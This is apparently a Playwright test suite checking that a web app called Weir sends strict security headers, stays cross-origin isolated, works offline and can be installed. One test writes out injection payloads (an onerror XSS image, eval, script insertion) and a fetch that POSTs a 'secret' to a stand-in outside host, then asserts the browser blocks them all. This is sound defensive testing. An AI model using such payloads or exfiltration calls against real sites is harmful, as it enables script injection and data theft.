// The ground on the built site: isolation, what the page may not do, the API, and what makes it installable.
import { expect, type Page } from '@playwright/test';
import { test, untilControlled } from './workspace.ts';

/** Every report of a broken Content-Security-Policy, from the first script on. */
async function watchViolations(page: Page): Promise<() => Promise<readonly string[]>> {
	await page.addInitScript(() => {
		const told: string[] = [];
		Object.assign(globalThis, { told });
		document.addEventListener('securitypolicyviolation', (event) => {
			told.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`);
		});
	});
	return () => page.evaluate(() => (globalThis as never as { told: string[] }).told);
}

/** Comes to its own by the title, whatever the page shows. */
async function open(page: Page): Promise<void> {
	await page.goto('/');
	await expect(page).toHaveTitle(/Weir/);
}

test('the page is cross-origin isolated', async ({ scripted: page }) => {
	expect(await page.evaluate(() => crossOriginIsolated)).toBe(true);
});

test('the page loads without breaking its own policy', async ({ virgin: page }) => {
	const violations = await watchViolations(page);
	await open(page);
	await page.waitForLoadState('networkidle');
	expect(await violations()).toEqual([]);
});

test('every kind of answer carries the policy and its companions', async ({ request }) => {
	for (const path of ['/', '/a/deep/link', '/service-worker.js', '/icons/icon.svg']) {
		const headers = (await request.get(path)).headers();
		expect(headers['content-security-policy'], path).toContain("default-src 'none'");
		expect(headers['content-security-policy'], path).toContain("require-trusted-types-for 'script'");
		expect(headers['content-security-policy'], path).not.toContain('unsafe-inline');
		expect(headers['cross-origin-opener-policy'], path).toBe('same-origin');
		expect(headers['cross-origin-embedder-policy'], path).toBe('require-corp');
		expect(headers['cross-origin-resource-policy'], path).toBe('same-origin');
		expect(headers['referrer-policy'], path).toBe('no-referrer');
		expect(headers['x-content-type-options'], path).toBe('nosniff');
		expect(headers['permissions-policy'], path).toContain('camera=()');
	}
	expect((await request.get('/service-worker.js')).headers()['cache-control']).toBe('no-cache');
});

test('hashed files are kept for good', async ({ scripted: page, request }) => {
	const path = await page.evaluate(() => document.querySelector('link[rel=modulepreload]')?.getAttribute('href'));
	expect((await request.get(path ?? '')).headers()['cache-control']).toContain('immutable');
});

test('scripts, markup and code that somebody injects do not run', async ({ page }) => {
	const violations = await watchViolations(page);
	await open(page);
	const thrown = await page.evaluate(() => {
		const attempts: Record<string, () => unknown> = {
			innerHTML: () => (document.createElement('div').innerHTML = '<img src=x onerror="globalThis.hacked = 1">'),
			insertAdjacentHTML: () => document.body.insertAdjacentHTML('beforeend', '<p>'),
			srcdoc: () => (document.createElement('iframe').srcdoc = '<p>'),
			eval: () => void (0, eval)('globalThis.hacked = 1'),
			Function: () => Reflect.construct(Function, ['globalThis.hacked = 1']),
			worker: () => new Worker('/service-worker.js'),
			policy: () =>
				(
					globalThis as never as { trustedTypes: { createPolicy(name: string, rules: object): void } }
				).trustedTypes.createPolicy('mine', {})
		};
		const isRefused = (attempt: () => unknown): boolean => {
			try {
				attempt();
				return false;
			} catch {
				return true;
			}
		};
		// Later, since what Playwright evaluates may itself use eval.
		return new Promise<readonly string[]>((resolve) => {
			setTimeout(() => {
				resolve(Object.keys(attempts).filter((name) => isRefused(attempts[name] ?? (() => undefined))));
			});
		});
	});
	expect(thrown).toEqual(['innerHTML', 'insertAdjacentHTML', 'srcdoc', 'eval', 'Function', 'worker', 'policy']);
	await page
		.evaluate(() => {
			const script = document.createElement('script');
			script.append('globalThis.hacked = 1');
			document.head.append(script);
			const image = document.createElement('img');
			image.setAttribute('src', 'https://elsewhere.test/pixel.png');
			document.body.append(image);
		})
		.catch(() => undefined);
	const leaked = await page.evaluate(async () => {
		try {
			await fetch('https://elsewhere.test/', { method: 'POST', body: 'secret', mode: 'no-cors' });
			return true;
		} catch {
			return false;
		}
	});
	expect(leaked).toBe(false);
	expect(await page.evaluate(() => 'hacked' in globalThis)).toBe(false);
	await expect.poll(async () => (await violations()).some((told) => told.startsWith('connect-src'))).toBe(true);
});

test('only the threads that read and notify an address may reach one that a person names', async ({
	page,
	request
}) => {
	await open(page);
	const workers = await page.evaluate(async () => {
		const shell = (await (await fetch('/service-worker.js')).text()).matchAll(
			/"(\/_app\/immutable\/workers\/[^"/]+\.js)"/g
		);
		return [...new Set([...shell].map(([, path]) => path ?? ''))];
	});
	const policies = await Promise.all(
		workers.map(async (path) => {
			const policy = (await request.get(path)).headers()['content-security-policy'] ?? '';
			const connect = /connect-src[^;]*/.exec(policy)?.[0];
			return [/workers\/([a-z]+)/.exec(path)?.[1], connect] as const;
		})
	);
	expect(Object.fromEntries(policies)).toEqual({
		check: "connect-src 'self' blob:",
		cutter: "connect-src 'self' blob:",
		engine: "connect-src 'self' blob:",
		ingest: "connect-src 'self' blob: https: http://localhost:* http://127.0.0.1:*",
		kernel: "connect-src 'self' blob:",
		keys: "connect-src 'self' blob:",
		model: "connect-src 'self' blob:",
		notify: "connect-src 'self' blob: https: http://localhost:* http://127.0.0.1:*",
		onnx: "connect-src 'self' blob:",
		script: "connect-src 'self' blob:"
	});
});

test('the API answers, and is honest about what it has not', async ({ request }) => {
	const health = await request.get('/api/v1/health');
	expect(await health.json()).toMatchObject({ database: 'ok', objects: 'ok' });
	const nothing = await request.get('/api/v1/nothing');
	expect(nothing.status()).toBe(404);
	expect(await nothing.json()).toEqual({ error: { kind: 'not-found', path: '/api/v1/nothing' } });
});

test('a file that there is none of is not the page', async ({ scripted: page, request }) => {
	expect((await request.get('/ext/v1.4.3/wasm_eh/spatial.duckdb_extension.wasm')).status()).toBe(404);
	expect((await request.get('/ext/v1.4.3/wasm_eh/json.duckdb_extension.wasm')).headers()['content-type']).toBe(
		'application/wasm'
	);
	const unhashed = await request.get('/_app/immutable/chunks/gone.js');
	expect([unhashed.status(), unhashed.headers()['cache-control']]).toEqual([404, 'no-store']);
	await untilControlled(page);
	const status = await page.evaluate(async () => (await fetch('/ext/unknown.wasm')).status);
	expect(status).toBe(404);
});

test('Weir can be installed', async ({ scripted: page }) => {
	const session = await page.context().newCDPSession(page);
	const { installabilityErrors } = await session.send('Page.getInstallabilityErrors');
	// Playwright's pages are all private ones, which Chromium installs nothing from.
	expect(installabilityErrors.map(({ errorId }) => errorId).filter((id) => id !== 'in-incognito')).toEqual([]);
	const { errors } = await session.send('Page.getAppManifest');
	expect(errors).toEqual([]);
});

test('without a network any address opens the page, isolated and under its policy', async ({ virgin: page }) => {
	const violations = await watchViolations(page);
	await open(page);
	await untilControlled(page);
	await page.context().setOffline(true);
	const answer = await page.goto('/');
	expect(answer?.fromServiceWorker()).toBe(true);
	expect(answer?.headers()['content-security-policy']).toContain("default-src 'none'");
	await expect(page).toHaveTitle(/Weir/);
	expect(await page.evaluate(() => crossOriginIsolated)).toBe(true);
	const kept = await page.evaluate(async () => {
		const paths = ['/ext/v1.4.3/wasm_eh/parquet.duckdb_extension.wasm', '/samples/movies.json', '/icons/icon.svg'];
		return Promise.all(paths.map(async (path) => (await fetch(path)).status));
	});
	expect(kept).toEqual([200, 200, 200]);
	const engine = await page.evaluate(async () => {
		const kept = await (await caches.open('hashed')).keys();
		return kept.map(({ url }) => url).filter((url) => url.includes('duckdb-eh'));
	});
	expect(engine).toHaveLength(1);
	expect(await page.evaluate(async () => (await fetch('/ext/unknown.wasm')).status)).toBe(404);
	expect(await violations()).toEqual([]);
});
